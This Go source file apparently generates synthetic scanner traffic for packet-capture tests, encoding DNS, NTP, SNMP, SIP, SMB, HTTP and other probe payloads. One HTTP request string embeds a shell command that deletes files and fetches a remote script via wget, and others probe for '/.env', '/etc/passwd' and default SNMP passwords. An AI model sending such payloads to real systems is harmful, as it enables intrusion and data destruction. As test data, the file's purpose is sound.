package pcapgen

// Application payloads of the kinds internet scanners send, appended to a
// caller's buffer. Texts are the ones real scanners and clients send.

var dnsNames = []string{
	"example.com", "version.bind", "google.com", "x.y.z.example.org", "isc.org", "cloudflare.com",
	"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.net", "_sip._udp.example.net", "wpad", "localhost",
	"1.0.0.127.in-addr.arpa", "ns1.example.com", "mail.example.org", "a.root-servers.net",
	"dnsscan.shadowserver.org", "", "www.some-very-long-host-name-for-testing.example.co.uk",
}

// qtypes a scanner asks for, and those Debian 4.99.3 names differently
// (4.99.4 added names; spec §8) which only the fixable oracle mode uses.
var dnsQtypes = []uint16{1, 28, 255, 16, 15, 2, 6, 12, 33, 5, 1, 1, 28}
var dnsQtypesRenamed = []uint16{65, 64, 257, 99}

// appendDNSName appends name in wire format.
func appendDNSName(b []byte, name string) []byte {
	start := 0
	for i := 0; i <= len(name); i++ {
		if i == len(name) || name[i] == '.' {
			if i > start {
				b = append(b, byte(i-start))
				b = append(b, name[start:i]...)
			}
			start = i + 1
		}
	}
	return append(b, 0)
}

func (g *Generator) dnsQuery(b []byte, mdns bool) []byte {
	r := g.r
	id := r.u16()
	flags := uint16(0)
	if r.chance(0.6) {
		flags = 0x0100
	}
	edns := r.chance(0.25)
	name := pick(r, dnsNames)
	qtype := pick(r, dnsQtypes)
	qclass := uint16(1)
	if name == "version.bind" {
		qtype, qclass = 16, 3
	}
	if g.cfg.Oracle != OracleSafe && r.chance(0.05) {
		qtype = pick(r, dnsQtypesRenamed)
	}
	if mdns {
		id, flags, name, qtype = 0, 0, "_services._dns-sd._udp.local", 12
		if r.chance(0.5) {
			qclass |= 0x8000
		}
	}
	b = put16(b, id)
	b = put16(b, flags)
	b = append(b, 0, 1, 0, 0, 0, 0, 0, 0)
	if edns {
		b[len(b)-1] = 1
	}
	b = appendDNSName(b, name)
	b = put16(b, qtype)
	b = put16(b, qclass)
	if edns {
		b = append(b, 0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0)
		if r.chance(0.3) {
			b[len(b)-4] = 0x80 // DO
		}
	}
	return b
}

func (g *Generator) dnsResponse(b []byte) []byte {
	r := g.r
	start := len(b)
	name := pick(r, dnsNames[:14])
	b = put16(b, r.u16())
	switch r.intn(4) {
	case 0:
		b = append(b, 0x81, 0x83, 0, 1, 0, 0, 0, 0, 0, 0) // NXDomain
		b = appendDNSName(b, name)
		return append(b, 0, 1, 0, 1)
	case 1:
		b = append(b, 0x81, 0x80, 0, 1, 0, 2, 0, 0, 0, 0)
		b = appendDNSName(b, name)
		b = append(b, 0, 1, 0, 1)
		b = append(b, 0xc0, 12, 0, 5, 0, 1, 0, 0, 0x0e, 0x10)
		b = put16(b, uint16(len(name)+6))
		b = append(b, 3, 'w', 'w', 'w', 0xc0, 12) // CNAME www.<name> by pointer
		b = append(b, 0xc0, byte(len(b)-6-start), 0, 1, 0, 1, 0, 0, 0, 60, 0, 4)
		return g.r.fill(b, 4)
	case 2:
		b = append(b, 0x85, 0x00, 0, 1, 0, 1, 0, 0, 0, 0)
		b = appendDNSName(b, name)
		b = append(b, 0, 28, 0, 1)
		b = append(b, 0xc0, 12, 0, 28, 0, 1, 0, 1, 0x51, 0x80, 0, 16, 0x20, 0x01, 0x0d, 0xb8)
		return r.fill(b, 12)
	default:
		b = append(b, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0)
		b = appendDNSName(b, name)
		b = append(b, 0, 1, 0, 1)
		b = append(b, 0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 0x2c, 0, 4)
		return r.fill(b, 4)
	}
}

func ntpPacket(g *Generator, b []byte) []byte {
	r := g.r
	switch r.intn(5) {
	case 0: // mode 7 monlist, as amplification scanners send it
		return append(b, 0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0)
	case 1: // server reply
		b = append(b, byte(r.between(3, 4))<<3|4, 2, 6, 0xe9)
		b = r.fill(b, 8)
		b = append(b, 192, 0, 2, byte(r.between(1, 254)))
		return r.fill(b, 32)
	case 2: // mode 6 readvar
		return append(b, 0x16, 0x02, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 0, 0)
	default: // client
		b = append(b, byte(r.between(2, 4))<<3|3, 0, 6, 0xec)
		b = append(b, make([]byte, 36)...)
		return r.fill(b, 8)
	}
}

func berTLV(b []byte, tag byte, content []byte) []byte {
	b = append(b, tag)
	if len(content) < 128 {
		b = append(b, byte(len(content)))
	} else {
		b = append(b, 0x81, byte(len(content)))
	}
	return append(b, content...)
}

var snmpOIDs = [][]byte{
	{0x2b, 6, 1, 2, 1, 1, 1, 0},       // sysDescr.0
	{0x2b, 6, 1, 2, 1, 1, 5, 0},       // sysName.0
	{0x2b, 6, 1, 2, 1, 1},             // system
	{0x2b, 6, 1, 4, 1, 9, 2, 1, 3, 0}, // a Cisco one
}

func snmpGet(g *Generator, b []byte) []byte {
	r := g.r
	oid := berTLV(nil, 0x06, pick(r, snmpOIDs))
	vb := berTLV(nil, 0x30, append(oid, 0x05, 0x00))
	vbl := berTLV(nil, 0x30, vb)
	var pdu []byte
	pdu = berTLV(pdu, 0x02, []byte{byte(r.between(1, 127)), r.u8()})
	pdu = append(pdu, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00)
	pdu = append(pdu, vbl...)
	tag := byte(pick(r, []byte{0xa0, 0xa0, 0xa1, 0xa5}))
	ver := byte(r.intn(2))
	if tag == 0xa5 {
		ver = 1
	}
	msg := []byte{0x02, 0x01, ver}
	msg = berTLV(msg, 0x04, []byte(pick(r, []string{"public", "public", "private", "admin", "cisco"})))
	msg = berTLV(msg, tag, pdu)
	return berTLV(b, 0x30, msg)
}

var sipMethods = []string{"OPTIONS", "INVITE", "REGISTER"}

func sipRequest(g *Generator, b []byte) []byte {
	m := pick(g.r, sipMethods)
	b = append(b, m...)
	b = append(b, " sip:nm SIP/2.0"...)
	if g.r.chance(0.1) {
		return b // no line end
	}
	b = append(b, "\r\nVia: SIP/2.0/UDP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 "...)
	b = append(b, m...)
	return append(b, "\r\nMax-Forwards: 70\r\nContent-Length: 0\r\n\r\n"...)
}

func bootpDiscover(g *Generator, b []byte) []byte {
	r := g.r
	b = append(b, 1, 1, 6, 0)
	b = r.fill(b, 4) // xid
	b = append(b, make([]byte, 20)...)
	mac := r.fill(nil, 6)
	mac[0] &^= 1
	b = append(b, mac...)
	b = append(b, make([]byte, 10+64+128)...)
	b = append(b, 0x63, 0x82, 0x53, 0x63, 53, 1, 1, 55, 4, 1, 3, 6, 15, 255)
	for len(b)%4 != 0 || len(b) < 300 {
		b = append(b, 0)
	}
	return b
}

func isakmpPacket(g *Generator, b []byte) []byte {
	r := g.r
	switch r.intn(3) {
	case 0: // IKEv1 main mode, header only
		b = r.fill(b, 8)
		b = append(b, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10, 2, 0, 0, 0, 0, 0, 0, 0, 0, 28)
	case 1: // IKEv2 IKE_SA_INIT, header only
		b = r.fill(b, 8)
		b = append(b, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x20, 34, 0x08, 0, 0, 0, 0, 0, 0, 0, 28)
	default:
		b = r.fill(b, 28)
	}
	return b
}

func tcpDNSQuery(g *Generator, b []byte) []byte {
	start := len(b)
	b = append(b, 0, 0)
	b = g.dnsQuery(b, false)
	n := len(b) - start - 2
	b[start], b[start+1] = byte(n>>8), byte(n)
	return b
}

// appendUDPPayload picks a UDP service, appends its payload and returns
// the destination port.
func (g *Generator) appendUDPPayload(b []byte, v6 bool) ([]byte, uint16) {
	r := g.r
	k := r.intn(1000)
	switch {
	case k < 170:
		return g.dnsQuery(b, false), 53
	case k < 200:
		g.fromServer = true // the caller swaps the ports
		return g.dnsResponse(b), 53
	case k < 290:
		return ntpPacket(g, b), 123
	case k < 360:
		return snmpGet(g, b), pick(r, []uint16{161, 161, 161, 162})
	case k < 410:
		return append(b, "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n"...), 1900
	case k < 440:
		return append(b, "\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"...), 11211
	case k < 490:
		return sipRequest(g, b), 5060
	case k < 530:
		if g.cfg.Oracle != OracleOff {
			break
		}
		return append(b, "\x80\xf0\x00\x10\x00\x01\x00\x00\x00\x00\x00\x00\x20CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\x00\x00\x21\x00\x01"...), 137
	case k < 560:
		return g.dnsQuery(b, true), 5353
	case k < 590:
		b = append(b, 0, byte(r.between(1, 2)))
		b = append(b, pick(r, []string{"/etc/passwd", "file.txt", "pxelinux.0", "a\x1b[2Jb", "config.cfg"})...)
		b = append(b, 0)
		b = append(b, pick(r, []string{"octet", "netascii"})...)
		return append(b, 0), 69
	case k < 630:
		return isakmpPacket(g, b), 500
	case k < 650:
		if r.chance(0.5) {
			return append(b, 0xff), 4500
		}
		b = append(b, 0, 0, 0, 0)
		return isakmpPacket(g, b), 4500
	case k < 680:
		b = append(b, 1, byte(r.between(1, 2)), 0, 0, 0, 0, 0, 0)
		b = append(b, make([]byte, 12)...)
		return append(b, 0, 0, 0, 16), 520
	case k < 700:
		if v6 {
			b = append(b, 1, 0, 0, 0)
			b = r.fill(b, 3)
			return append(b, 0, 8, 0, 2, 0, 0), 547
		}
		return bootpDiscover(g, b), 67
	case k < 730:
		b = append(b, 0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42)
		return r.fill(b, 12), 3478
	case k < 750:
		b = append(b, "<"...)
		b = appendDec(b, uint64(pick(r, []int{34, 13, 86, 165, 191})))
		return append(b, ">Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8"...), 514
	case k < 760:
		if g.cfg.Oracle != OracleOff {
			break
		}
		b = append(b, 0x6a, 0x81, 0x9e, 0x30, 0x81, 0x9b, 0xa1, 0x03, 0x02, 0x01, 0x05)
		return r.fill(b, 40), 88
	case k < 770:
		return append(b, 0xc8, 0x02, 0, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0x80, 8, 0, 0, 0, 0, 0, 1), 1701
	case k < 780:
		b = append(b, 1, byte(r.between(1, 255)), 0, 20)
		return r.fill(b, 16), pick(r, []uint16{1812, 1813})
	case k < 800:
		if v6 {
			b = append(b, 1, 1, 0, 0)
			b = append(b, make([]byte, 16)...)
			return append(b, 0, 0, 0, 16), 521
		}
		b = append(b, 0x38)
		return r.fill(b, 13), 1194
	case k < 820:
		b = append(b, 1, 0, 0, 0)
		return r.fill(b, 144), 51820
	case k < 840:
		b = append(b, 0xc3, 0, 0, 0, 1, 8)
		return r.fill(b, 60), 443
	case k < 850:
		b = append(b, 0x40, 0x01, 0x12, 0x34, 0xbb)
		b = append(b, ".well-known"...)
		b = append(b, 0x04)
		return append(b, "core"...), 5683
	case k < 860:
		return append(b, 0x02), 1434
	}
	b = r.fill(b, r.intn(81))
	return b, uint16(r.between(1, 65535))
}

var httpRequests = []string{
	"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
	"GET /wp-login.php HTTP/1.0\r\n\r\n",
	"POST /boaform/admin/formLogin HTTP/1.1\r\n\r\n",
	"GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\nHost: x\r\n\r\n",
	"HEAD / HTTP/1.0\r\n\r\n",
	"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.7/x.sh HTTP/1.1\r\n\r\n",
	"GET /index.html HTTP/1.1",
	"GET /a\tb HTTP/1.1\r\n\r\n",
	"FOO / HTTP/1.1\r\n\r\n",
	"GET /.env HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
	"OPTIONS * HTTP/1.0\r\n\r\n",
	"GET /\x1b[31m HTTP/1.1\r\n\r\n",
	"CONNECT example.com:443 HTTP/1.1\r\n\r\n",
	"PROPFIND / HTTP/1.1\r\n\r\n",
	"GET /" + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" + " HTTP/1.1\r\n\r\n",
}

var httpResponses = []string{
	"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
	"HTTP/1.0 200 OK\r\n\r\n",
	"HTTP/1.1 301 Moved Permanently\r\nLocation: /\r\n\r\n",
}

// tcpService is a destination port and the payloads a client sends to it.
type tcpService struct {
	port     uint16
	payloads []string
}

var tcpServices = []tcpService{
	{80, httpRequests},
	{8080, httpRequests},
	{22, []string{"SSH-2.0-libssh_0.9.6\r\n", "SSH-2.0-Go\r\n", "SSH-2.0-OpenSSH_9.6\n", "SSH-1.99-PuTTY_Release_0.62\r\n", "SSH-2.0-\x01bad\r\n", "SSH-2.0-paramiko_3.4.0"}},
	{25, []string{"EHLO scanner.example\r\n", "HELO x\r\n", "QUIT\r\n", "EHLO a\xe9b\r\n", "MAIL FROM:<a@b>"}},
	{21, []string{"USER anonymous\r\n", "PASS guest@\r\n", "USER a\tb", "SYST\r\n", "\x16\x03\x01\x00"}},
	{6379, []string{"*1\r\n$4\r\nINFO\r\n", "*1\r\n$4\r\nPING\r\n", "*2\r\n$7\r\nCOMMAND\r\n$4\r\nDOCS\r\n", "INFO\r\n", "*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$2\r\n42\r\n"}},
	{23, []string{"\xff\xfd\x18\xff\xfd\x20\xff\xfb\x01", "\xff\xfb\x1f\xff\xfb\x20\xff\xfb\x18\xff\xfb\x27\xff\xfd\x01", "root\r\n"}},
	{43, []string{"example.com\r\n", "-h whois.example\r\n"}},
	{179, []string{"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x00\x13\x04"}},
	{554, []string{"OPTIONS rtsp://x/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", "DESCRIBE rtsp://192.0.2.1:554/ RTSP/1.0\r\n\r\n"}},
	{2049, []string{"\x80\x00\x00\x28\x11\x22\x33\x44\x00\x00\x00\x00\x00\x00\x00\x02\x00\x01\x86\xa3\x00\x00\x00\x03\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"}},
	{3389, []string{"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00"}},
	{1433, []string{"\x12\x01\x00\x2f\x00\x00\x01\x00"}},
	{443, []string{"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03"}},
	{53, nil},
	{445, nil},
	{139, nil},
}

// appendTCPPayload picks a service and appends a client payload for it.
func (g *Generator) appendTCPPayload(b []byte) ([]byte, uint16) {
	r := g.r
	s := pick(r, tcpServices)
	switch s.port {
	case 53:
		return tcpDNSQuery(g, b), 53
	case 445, 139:
		if g.cfg.Oracle != OracleOff {
			return r.fill(b, r.between(1, 60)), 8443
		}
		if s.port == 139 {
			return append(b, 0x81, 0, 0, 0x44, 0x20, 'C', 'K', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A', 0), 139
		}
		b = append(b, 0, 0, 0, 0x2f, 0xff, 'S', 'M', 'B', 0x72, 0, 0, 0, 0, 0x18, 0x01, 0x28)
		b = append(b, make([]byte, 22)...)
		return append(b, 0x00, 0x0c, 0x00, 0x02, 'N', 'T', ' ', 'L', 'M', ' ', '0', '.', '1', '2', 0), 445
	case 443, 3389, 1433:
		b = append(b, pick(r, s.payloads)...)
		return r.fill(b, r.intn(40)), s.port
	}
	return append(b, pick(r, s.payloads)...), s.port
}

func appendDec(b []byte, v uint64) []byte {
	var t [20]byte
	i := len(t)
	for {
		i--
		t[i] = byte('0' + v%10)
		v /= 10
		if v == 0 {
			break
		}
	}
	return append(b, t[i:]...)
}
